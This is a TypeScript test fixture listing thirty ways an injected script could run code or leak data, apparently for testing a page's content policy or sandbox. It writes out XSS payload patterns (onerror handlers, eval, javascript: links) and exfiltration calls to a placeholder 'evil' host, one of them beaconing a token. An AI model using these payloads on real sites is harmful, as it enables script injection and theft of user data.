/** A way in which an injected script could run more code or leak data. */
export interface Vector {
  name: string
  /** Body of a page function; `mark` is code that records the run, `evil` a foreign URL, `html` sets markup. */
  code: string
  /** The page navigates away if it succeeds. */
  leaves?: true
}

const element = (tag: string, set: string) =>
  `const e = document.createElement('${tag}'); ${set}; document.body.append(e)`

/** Twenty-two of RELIABILITY T14 and eight of our own. */
export const VECTORS: readonly Vector[] = [
  { name: 'inline script', code: element('script', 'e.textContent = mark') },
  {
    name: 'innerHTML',
    code: `const e = document.createElement('div'); document.body.append(e); e.innerHTML = '<img src=x onerror="' + mark + '">'`,
  },
  {
    name: 'insertAdjacentHTML',
    code: `document.body.insertAdjacentHTML('beforeend', '<img src=y onerror="' + mark + '">')`,
  },
  {
    name: 'srcdoc',
    code: element('iframe', `e.srcdoc = '<script>parent.eval(' + JSON.stringify(mark) + ')<\\/script>'`),
  },
  {
    name: 'createContextualFragment',
    code: `document.body.append(document.createRange().createContextualFragment('<script>' + mark + '<\\/script>'))`,
  },
  { name: 'eval', code: 'eval(mark)' },
  { name: 'Function', code: 'new Function(mark)()' },
  { name: 'timer with text', code: 'setTimeout(mark, 0)' },
  { name: 'handler attribute', code: element('button', `e.setAttribute('onclick', mark)`) + '; e.click()' },
  { name: 'javascript link', code: element('a', `e.href = 'javascript:' + mark`) + '; e.click()' },
  { name: 'javascript location', code: `location.href = 'javascript:' + mark + ';void 0'` },
  { name: 'script of another site', code: element('script', `e.src = evil + 'x.js'`) },
  {
    name: 'script in a data address',
    code: element('script', `e.src = 'data:text/javascript,' + encodeURIComponent(mark)`),
  },
  {
    name: 'script in a blob',
    code: element('script', `e.src = URL.createObjectURL(new Blob([mark], { type: 'text/javascript' }))`),
  },
  { name: 'import of another site', code: `import(evil + 'm.js').catch(() => undefined)` },
  { name: 'fetch', code: `fetch(evil, { mode: 'no-cors' }).catch(() => undefined)` },
  { name: 'beacon', code: `navigator.sendBeacon(evil, 'token')` },
  { name: 'picture', code: element('img', 'e.src = evil') },
  { name: 'style', code: element('style', `e.textContent = 'body { background-image: url(' + evil + ') }'`) },
  {
    name: 'worker in a blob',
    code: `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(evil) + ', { mode: "no-cors" })'])))`,
  },
  { name: 'form', code: element('form', `e.action = evil; e.method = 'get'`) + '; e.submit()', leaves: true },
  { name: 'navigation', code: 'location.href = evil', leaves: true },
  { name: 'XMLHttpRequest', code: `const x = new XMLHttpRequest(); x.open('GET', evil); x.send()` },
  { name: 'event source', code: 'new EventSource(evil)' },
  { name: 'frame', code: element('iframe', 'e.src = evil') },
  { name: 'object', code: element('object', `e.data = evil; e.type = 'text/html'`) },
  { name: 'style sheet', code: element('link', `e.rel = 'stylesheet'; e.href = evil`) },
  { name: 'font', code: `new FontFace('evil', 'url(' + evil + ')').load().catch(() => undefined)` },
  { name: 'film', code: element('video', 'e.src = evil') },
  { name: 'module script', code: element('script', `e.type = 'module'; e.textContent = mark`) },
]
